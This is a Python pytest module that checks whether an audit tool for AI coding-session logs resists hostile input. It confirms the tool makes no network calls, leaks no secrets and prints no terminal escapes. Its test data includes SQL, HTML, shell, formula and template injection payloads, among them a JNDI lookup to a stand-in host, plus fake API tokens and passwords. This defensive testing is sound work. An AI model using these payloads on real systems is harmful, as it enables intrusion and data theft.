"""A corpus that attacks in every field: nothing of it acts, and no secret leaves the archive.

One audit from the command line, under a umask that hides nothing, and then everything that it
left behind or showed is looked at.
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from html import unescape
from pathlib import Path

import duckdb
import pytest

from waste_assets.lake.lake import Lake
from waste_assets.lake.tables import RAW_SESSIONS
from waste_assets_tests.program import PROGRAM
from waste_assets_tests.support import Row, as_line, record

#: Texts that something may obey: a database, a file system, a browser, a terminal, a spreadsheet,
#: a shell.
HOSTILE = {
    "sql": "'; DROP TABLE parsed_turns; --\" $$ {source} %s ?",
    "path": "../../../../tmp/waste-assets-was-here/x",
    "html": "</td></script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "markdown": "[x](javascript:alert(1)) ![y](http://192.0.2.1/y.png) <b>z</b> | a | b |",
    "ansi": "\x1b[2J\x1b[31mred\x9b2J\x07",
    "osc": "\x1b]8;;http://192.0.2.1/\x07link\x1b]8;;\x07\x1b]52;c;aGk=\x07\x1bP\x1b\\",
    "bidi": "\u202egpj.exe\u2066\u200b\ufeff\u2028",
    "return": "honest\rERROR: all is lost\x08\x08\x08\x0b\x0c",
    "rich": "[bold red]x[/bold red] [link=http://192.0.2.1]y[/link] [/]",
    "formula": "=cmd|' /C calc'!A0",
    "template": "{{ 7 * 7 }} {% for x in y %} ${jndi:ldap://192.0.2.1/a} %(x)s {0}",
    "shell": "$(touch was-here) `touch was-here`; touch was-here & x' \" -rf *",
    "nul": "before\x00after",
    "long": "W" * 5_000,
}  # fmt: skip
#: Put together here, so that none stands in a file: by what would be found in a dump.
SECRETS = {
    "github": "ghp_" + "Ab3dE6gH" * 4 + "Ab3d",
    "anthropic": "sk-ant-" + "api03-" + "q7Rt9_Zx" * 11 + "-AbCdEfAA",
    "aws": "AKIA" + "IOSF7ODN" + "N7EXAMPQ",
    "slack": "xox" + "b-" + "123456789012-" * 2 + "AbCdEfGhIjKlMnOpQrStUvWx",
    "password": "hunter2-" + "Tr0ub4dor",
    "jwt": "eyJ" + "hbGciOiJIUzI1NiJ9" + ".eyJ" + "zdWIiOiIxMjM0NTY3ODkwIn0." + "dozjgNryP4J3" * 3,
}  # fmt: skip
#: How they stand in texts.
TOLD = {
    "github": "git clone https://x:{}@github.com/a/b failed",
    "anthropic": "ANTHROPIC_API_KEY={}",
    "aws": "export AWS_ACCESS_KEY_ID={}",
    "slack": "curl -H 'Authorization: Bearer {}' https://slack.com/api/x",
    "password": "psql postgres://admin:{}@db.internal:5432/prod",
    "jwt": "cookie: session={}",
}
#: What no terminal may get: all controls but the line end, and marks that turn or hide.
_ACTS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff\u2028]")
_START = 2
#: Notes every address that Python code connects to or binds; a pair of pipes has none.
_WATCH = """
import json, os, sys
def _note(event, arguments):
    if event in ("socket.connect", "socket.bind", "socket.sendto", "socket.getaddrinfo", "started"):
        place = os.path.join(os.path.dirname(__file__), "noted")
        with open(place, "a") as noted:
            noted.write(json.dumps({"event": event, "to": repr(arguments[1:])}) + "\\n")
sys.addaudithook(_note)
sys.audit("started")
"""


@dataclass
class World:
    """What an audit of the attack left behind, and what its commands printed."""

    home: Path
    source: Path
    data: Path
    #: Where each process notes whom it connects to, and on what it listens.
    watch: Path
    #: What has a program run where there is no network, not even with itself; empty: nothing.
    apart: list[str]
    printed: dict[str, bytes] = field(default_factory=dict)

    def files(self, *below: str) -> Iterator[Path]:
        """All files below these places of the data root."""
        for name in below:
            place = self.data / name
            yield from [place] if place.is_file() else (p for p in place.rglob("*") if p.is_file())


def _lines(number: int, text: str) -> list[bytes]:
    """A session with the text in every field that holds text."""
    session = f"{number:08}-2222-4333-8444-555555555555"
    every: Row = {
        "sessionId": session, "cwd": f"/home/dev/{text}", "gitBranch": text, "version": text,
        "requestId": text, "slug": text, "userType": text,
    }  # fmt: skip
    rows = []
    for n in range(1, 8):
        call = {"type": "tool_use", "id": f"toolu_{number}_{n}", "name": "Bash" if n < 4 else text}
        call["input"] = {"command": f"run {text}", "file_path": text, "description": text}
        if n in (2, 3):
            call |= {"name": "Read", "input": {"file_path": f"/home/dev/{text}.py"}}
        said = record(2 * n, **every)
        said["uuid"] = f"{number:08}-0000-4000-8000-{2 * n:012}"
        said["message"] |= {
            "id": f"msg_{number}_{n}", "content": [{"type": "text", "text": text}, call],
            "model": text if n == 7 else "claude-opus-4-6", "stop_reason": "tool_use",
        }  # fmt: skip
        if n > 4:
            said |= {"isSidechain": True, "agentId": text}
        if n == 6:
            said["message"]["usage"] = {
                **said["message"]["usage"], "speed": text, "service_tier": text,
                "inference_geo": text,
            }  # fmt: skip
        failed = f"Exit code {n}\n{text}: command not found\n{text}"
        answer = {"type": "tool_result", "tool_use_id": call["id"], "content": failed}
        back = record(2 * n + 1, "user", **every)
        back["uuid"] = f"{number:08}-0000-4000-8000-{2 * n + 1:012}"
        back["message"]["content"] = [{**answer, "is_error": True}]
        rows += [said, back]
    asked = record(1, "user", **every)
    asked |= {"uuid": f"{number:08}-0000-4000-8000-{1:012}"}
    asked["message"]["content"] = text
    notes = {
        **every, "type": "attachment", "uuid": f"{number:08}-0000-4000-8000-{99:012}",
        "timestamp": asked["timestamp"],
        "attachment": {"type": text, "path": text, "content": text},
    }  # fmt: skip
    title = {"type": "custom-title", "customTitle": text, "sessionId": session}
    odd = {**record(60, **every), "sessionId": text}
    odd["message"] |= {"id": f"msg_{number}_odd"}
    return [as_line(row) for row in (title, asked, notes, *rows, odd)] + [f"{{{text}".encode()]


def _file_name(text: str) -> str:
    if SECRETS["password"] in text:
        # Without the slashes of its address nobody would know it.
        return "password"
    return text.replace("/", "\u2215").replace("\x00", "")[:60]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    home = tmp_path_factory.mktemp("hostile")
    made = World(home, home / "source", home / "data", home / "watch", _apart())
    made.watch.mkdir()
    (made.watch / "sitecustomize.py").write_text(_WATCH)
    texts = [*HOSTILE.values(), *(TOLD[name].format(value) for name, value in SECRETS.items())]
    for number, text in enumerate(texts, _START):
        folder = made.source / "projects" / _file_name(text)
        folder.mkdir(parents=True)
        lines = b"".join(line.replace(b"\n", b" ") + b"\n" for line in _lines(number, text))
        (folder / f"{number:08}-2222-4333-8444-555555555555.jsonl").write_bytes(lines)
        # A session that somebody named by hand.
        other = b"".join(line.replace(b"\n", b" ") + b"\n" for line in _lines(number + 100, text))
        (folder / f"{_file_name(text)}.jsonl").write_bytes(other)
    before = os.umask(0)
    try:
        made.printed["audit"] = _printed(made, "audit", made.source)
        session = f"{_START + 4:08}"
        shown = ("usage", "detectors", "remedies", "clusters list", f"report --session {session}")
        for command in shown:
            made.printed[command] = _printed(made, *command.split())
    finally:
        os.umask(before)
    return made


def _printed(made: World, *command: str | Path) -> bytes:
    known = {name: os.environ[name] for name in ("PATH", "LANG", "TMPDIR") if name in os.environ}
    done = subprocess.run(
        [*made.apart, PROGRAM, *map(str, command), "--data-root", str(made.data)],
        capture_output=True,
        cwd=made.home,
        env={**known, "HOME": str(made.home), "PYTHONPATH": str(made.watch)},
        timeout=900,
    )
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout + done.stderr


def _apart() -> list[str]:
    for command in (["unshare", "--net"], ["unshare", "--map-root-user", "--net"]):
        with suppress(OSError):
            if subprocess.run([*command, "true"], capture_output=True).returncode == 0:
                return command
    return []


def test_an_audit_asks_no_network(world: World) -> None:
    noted = [json.loads(line) for line in (world.watch / "noted").read_text().splitlines()]
    assert len(noted) > 3
    asked = [one for one in noted if one["event"] not in ("started", "socket.bind")]
    # A library binds to this machine to see which protocols there are.
    bound = [one for one in noted if one["event"] == "socket.bind" and "::1" not in one["to"]]
    assert asked == bound == []
    if not world.apart:
        pytest.skip("no network namespace is permitted here: the audit ran beside a network")


def test_what_is_written_is_for_its_owner_alone(world: World) -> None:
    # A link has no mode of its own.
    places = [world.data, *(p for p in world.data.rglob("*") if not p.is_symlink())]
    assert len(places) > 50
    assert {p: oct(p.lstat().st_mode) for p in places if p.lstat().st_mode & 0o077} == {}


def test_the_archive_holds_the_secrets_as_they_are(world: World) -> None:
    """Else the tests below would prove nothing."""
    lake = Lake(world.data / "lake")
    held = b"".join(
        raw
        for day in lake.days(RAW_SESSIONS)
        for raw in lake.read(RAW_SESSIONS, [day], ["raw"])["raw"].to_pylist()
    )
    assert [name for name, value in SECRETS.items() if value.encode() not in held] == []


@pytest.mark.parametrize("place", ["bi", "report", "dagster", "unchanged.json"])
def test_no_secret_is_in_a_file_outside_the_lake(world: World, place: str) -> None:
    found = [
        (name, str(path.relative_to(world.data)))
        for path in world.files(place)
        for data in [path.read_bytes()]
        for name, value in SECRETS.items()
        if value.encode() in data or value.encode("utf-16-le") in data
    ]
    assert found == []


def test_no_secret_is_in_a_bi_table(world: World) -> None:
    """Files of tables are compressed: what they hold is asked of them."""
    found = []
    with duckdb.connect(str(world.data / "bi" / "waste.duckdb"), read_only=True) as con:
        for (table,) in con.execute("SELECT table_name FROM duckdb_tables()").fetchall():
            told = str(con.execute(f"FROM {table}").fetchall())
            found += [(table, name) for name, value in SECRETS.items() if value in told]
    assert found == []


def test_of_the_state_database_only_the_names_of_files_may_hold_one(world: World) -> None:
    with sqlite3.connect(world.data / "state.db") as con:
        listed = con.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
        tables = [name for (name,) in listed]
        assert "source_files" in tables
        found = [
            (table, name)
            for table in tables
            if table != "source_files"
            for name, value in SECRETS.items()
            if value in str(con.execute(f"SELECT * FROM {table}").fetchall())
        ]
    assert found == []


def test_no_secret_is_printed(world: World) -> None:
    found = [
        (command, name)
        for command, told in world.printed.items()
        for name, value in SECRETS.items()
        if value.encode() in told
    ]
    assert found == []


def test_nothing_that_is_printed_acts(world: World) -> None:
    for command, told in world.printed.items():
        assert _ACTS.findall(told.decode()) == [], command


def test_a_command_to_copy_shows_one_place_and_does_nothing_else(
    world: World, tmp_path: Path
) -> None:
    pages = [page.read_text() for page in world.files("report") if page.suffix == ".html"]
    told = [
        unescape(one) for page in pages for one in re.findall(r"waste-assets (show .*?)<", page)
    ]
    printed = "\n".join(text.decode() for text in world.printed.values())
    told += re.findall(r"^ +waste-assets (show .*)$", printed, re.MULTILINE)
    assert any("touch was-here" in one for one in told)
    script = "\n".join(f"printf '%s\\n' {one}" for one in dict.fromkeys(told))
    done = subprocess.run(["sh", "-c", script], capture_output=True, cwd=tmp_path, text=True)
    lines = done.stdout.splitlines()
    assert done.returncode == 0 and done.stderr == ""
    assert lines[::2] == ["show"] * len(dict.fromkeys(told)) == ["show"] * len(lines[1::2])
    assert list(tmp_path.iterdir()) == []


def test_no_name_led_out_of_the_data_root(world: World) -> None:
    assert {p.name for p in world.home.iterdir()} <= {"source", "data", "watch", ".cache"}
    assert not Path("/tmp/waste-assets-was-here").exists()
    assert {p.name for p in world.data.iterdir()} >= {"lake", "bi", "report", "dagster"}
